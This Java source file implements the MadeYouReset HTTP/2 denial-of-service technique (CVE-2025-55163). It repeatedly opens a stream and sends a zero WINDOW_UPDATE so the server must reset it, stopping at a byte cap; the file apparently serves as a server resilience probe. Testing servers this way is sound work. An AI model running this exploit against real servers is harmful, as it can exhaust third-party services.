package io.fedmesh.sidecar;

import java.io.ByteArrayOutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * MadeYouReset (CVE-2025-55163): the client never resets a stream itself, it makes the server do
 * it. Each round opens a stream with a complete GET and then sends a WINDOW_UPDATE of zero on it, a
 * stream error the server answers with RST_STREAM, while the request may already be at work. A
 * server that only limits resets its clients send does unbounded work; a bounded one counts its own
 * resets too and closes the connection.
 */
public final class MadeYouReset {
  private MadeYouReset() {}

  /**
   * Runs rounds on {@code socket} (connected, handshake done) with {@code authority} as the
   * requests' :authority until the server closes the connection or {@link ContinuationFlood#CAP}
   * bytes are written.
   */
  public static ContinuationFlood.Result run(Socket socket, String authority) throws Exception {
    ByteArrayOutputStream opening = new ByteArrayOutputStream();
    opening.write(ContinuationFlood.PREFACE);
    opening.write(ContinuationFlood.frame(4, 0, 0, new byte[0])); // SETTINGS
    byte[] host = authority.getBytes(StandardCharsets.US_ASCII);
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    // GET, http, /, then :authority as a literal without indexing (name index 1)
    block.write(new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, (byte) host.length});
    block.write(host);
    byte[] headers = block.toByteArray();
    return ContinuationFlood.flood(
        socket,
        opening.toByteArray(),
        i -> {
          int stream = 2 * i + 1;
          ByteArrayOutputStream round = new ByteArrayOutputStream();
          // HEADERS with END_STREAM and END_HEADERS, then WINDOW_UPDATE with increment 0
          round.writeBytes(ContinuationFlood.frame(1, 0x5, stream, headers));
          round.writeBytes(ContinuationFlood.frame(8, 0, stream, new byte[4]));
          return round.toByteArray();
        });
  }
}
